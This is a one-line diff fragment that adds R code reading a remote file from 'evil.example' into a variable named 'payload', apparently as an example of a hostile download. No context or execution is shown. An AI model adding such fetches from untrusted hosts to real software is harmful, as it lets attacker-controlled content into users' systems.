@@ -1,0 +1,1 @@
+payload <- readLines(url("http://evil.example/p.txt"))
